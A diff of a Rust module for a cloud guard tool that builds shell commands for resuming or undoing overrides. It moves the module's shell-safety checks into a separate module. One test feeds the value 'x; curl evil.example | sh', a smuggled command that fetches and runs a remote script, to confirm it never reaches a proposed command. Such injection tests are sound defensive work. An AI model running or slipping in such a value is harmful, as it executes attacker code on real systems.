@@ -1,14 +1,12 @@
 //! Overrides in words: why the guard does not write, what is in force, and the commands that allow, stop
 //! and undo.
-//!
-//! The rule: what is pasted into a shell is made of names that no shell can mistake.
 
 use super::about::About;
+use super::commands;
 use super::record::Record;
 use crate::overrides::{Location, State};
 use crate::plan::{Decision, Withheld};
 use crate::report::{Kind, OverrideEffect, OverrideRecord};
-use crate::text::unlinked;
 
 /// For how long the commands that are proposed allow or pause.
 const ALLOWED_FOR: &str = "8h";
@@ -107,28 +105,18 @@ pub(super) fn meaning(record: &Record) -> String {
 pub(super) fn next_steps(steps: &mut Vec<String>, record: &Record, about: &About<'_>) {
     match record.overrides.first() {
         Some(OverrideRecord { state: State::InForce | State::Ended, parameter, .. }) => {
-            if let Some((id, rest)) =
-                id_of(about.overrides, parameter).zip(where_it_is(about.overrides))
-            {
-                steps.push(format!("To end the pause now:\nguardctl resume {id}{rest}"));
-            }
+            resume(steps, about, parameter, "To end the pause now:");
         }
         Some(OverrideRecord { state: State::Holds | State::Void, parameter, .. }) => {
             steps.push("Write the override again as it was meant, under a new name.".to_owned());
-            if let Some((id, rest)) =
-                id_of(about.overrides, parameter).zip(where_it_is(about.overrides))
-            {
-                steps.push(format!("To remove it:\nguardctl resume {id}{rest}"));
-            }
+            resume(steps, about, parameter, "To remove it:");
         }
         None => unreadable(steps, record),
     }
 }
 
 fn unreadable(steps: &mut Vec<String>, record: &Record) {
-    let denied = ["AccessDeniedException", "AccessDenied"];
-    let code = record.error.as_ref().and_then(|error| error.code.as_deref());
-    if code.is_some_and(|code| denied.contains(&code)) {
+    if record.error.as_ref().is_some_and(|error| error.denial.is_some()) {
         steps.push(
             "Allow the guard's role ssm:GetParametersByPath on the path of the overrides; a service \
              control policy or a permissions boundary can deny it too."
@@ -147,11 +135,10 @@ fn unreadable(steps: &mut Vec<String>, record: &Record) {
 /// every `reverted` notice and every critical one.
 pub(super) fn undo(steps: &mut Vec<String>, record: &Record, about: &About<'_>) {
     let Some(rest) = where_it_is(about.overrides) else { return };
-    let domain = record.domain.as_deref().filter(|domain| is_safe(domain)).and_then(shell_word);
+    let domain = commands::domain_of(record);
     let reason = "--reason \"...\"";
-    let incident = record.incident.as_str();
     let incident =
-        Some(incident).filter(|incident| is_safe(incident) && unlinked(incident) == *incident);
+        Some(record.incident.as_str()).filter(|incident| commands::is_safe_word(incident));
     let attributes: Vec<_> = record.drifts.iter().map(|drift| drift.attribute.as_str()).collect();
     let was_written = match record.kind {
         Kind::Reverted | Kind::NotRestored => true,
@@ -197,28 +184,18 @@ pub(super) fn undo(steps: &mut Vec<String>, record: &Record, about: &About<'_>) 
 /// is nothing for a shell.
 pub(super) fn where_it_is(location: Option<&Location>) -> Option<String> {
     let location = location?;
-    let stack = location.stack().filter(|stack| is_safe(stack))?;
-    let region = Some(&location.region).filter(|region| is_safe(region))?;
+    let stack = location.stack().filter(|stack| commands::is_safe_word(stack))?;
+    let region = Some(&location.region).filter(|region| commands::is_safe_word(region))?;
     let stack = if stack == DEFAULT_STACK { String::new() } else { format!(" --stack {stack}") };
     Some(format!("{stack} --guard-region {region}"))
 }
 
-/// The override of that parameter, if a shell takes its name as it is.
-pub(super) fn id_of<'a>(location: Option<&Location>, parameter: &'a str) -> Option<&'a str> {
-    location?.id_of(parameter).filter(|id| is_safe(id))
-}
-
-/// Whether a shell takes a word as it is, and a program does not take it for an option.
-fn is_safe(word: &str) -> bool {
-    !word.is_empty()
-        && !word.starts_with('-')
-        && word.chars().all(|c| c.is_ascii_alphanumeric() || "._-/".contains(c))
-}
-
-/// A domain's name as it is pasted into a shell. A name that mail clients make a link of has its dots behind
-/// empty quotes, which a shell takes for nothing.
-fn shell_word(domain: &str) -> Option<String> {
-    [domain.to_owned(), domain.replace('.', "''.")].into_iter().find(|word| unlinked(word) == *word)
+/// Adds how to end the override of that parameter.
+pub(super) fn resume(steps: &mut Vec<String>, about: &About<'_>, parameter: &str, sentence: &str) {
+    let id = about.overrides.and_then(|location| location.id_of(parameter));
+    if let Some((id, rest)) = id.and_then(commands::word).zip(where_it_is(about.overrides)) {
+        steps.push(format!("{sentence}\nguardctl resume {id}{rest}"));
+    }
 }
 
 /// An override in one sentence without its full stop.
@@ -275,7 +252,7 @@ mod tests {
     use crate::report::Severity;
 
     /// The commands of `guardctl` that stop or allow something.
-    fn commands(notice: &Notice) -> Vec<&str> {
+    fn stopping_commands(notice: &Notice) -> Vec<&str> {
         let lines = notice.record.next_steps.iter().flat_map(|step| step.lines());
         let stops = ["guardctl undo ", "guardctl allow ", "guardctl pause "];
         lines.filter(|line| stops.iter().any(|stop| line.starts_with(stop))).collect()
@@ -294,10 +271,14 @@ mod tests {
             // Where the guard is not let in, it does nothing that could be undone.
             let is_due = kind != Kind::NotCovered
                 && (kind == Kind::Reverted || notice.record.severity == Severity::Critical);
-            assert_eq!(commands(&notice).len(), usize::from(is_due), "{kind}: {notice:#?}");
+            assert_eq!(
+                stopping_commands(&notice).len(),
+                usize::from(is_due),
+                "{kind}: {notice:#?}"
+            );
             critical += usize::from(is_due);
             // In a form that people get, it is one line.
-            for command in commands(&notice) {
+            for command in stopping_commands(&notice) {
                 assert!(notice.email().lines().any(|line| line.trim() == command), "{command}");
             }
         }
@@ -308,7 +289,7 @@ mod tests {
     fn the_command_fits_what_the_guard_did() {
         let first = |kind| {
             let notice = of(kind, &event_for(kind).unwrap());
-            commands(&notice).concat()
+            stopping_commands(&notice).concat()
         };
         let incident = "2c63888f-28f0-4481-be6d-dce7a7ace732";
         let rest = "--reason \"...\" --guard-region eu-central-1";
@@ -353,23 +334,15 @@ mod tests {
     }
 
     #[test]
-    fn a_name_that_looks_like_a_link_is_pasted_as_one_word_and_is_none() {
-        let word = |domain| shell_word(domain).unwrap();
-        assert_eq!(word("auth.example.com"), "auth.example.com");
-        assert_eq!(word("www.example.com"), "www''.example''.com");
-        assert_eq!(unlinked(&word("www.example.com")), word("www.example.com"));
-    }
-
-    #[test]
     fn what_others_chose_is_no_part_of_a_command() {
         let mut event = event("update-weakens-tls");
         event["detail"]["eventID"] = "x; curl evil.example | sh".into();
         let notice = of(Kind::Reverted, &event);
-        let commands = commands(&notice);
+        let commands = stopping_commands(&notice);
         assert_eq!(commands.len(), 1);
         assert!(commands.concat().starts_with("guardctl allow auth.example.com "), "{commands:?}");
         event["detail"]["requestParameters"]["domain"] = "--help".into();
         let notice = of(Kind::RevertFailed, &event);
-        assert!(!self::commands(&notice).concat().contains("--help"), "{notice:#?}");
+        assert!(!stopping_commands(&notice).concat().contains("--help"), "{notice:#?}");
     }
 }
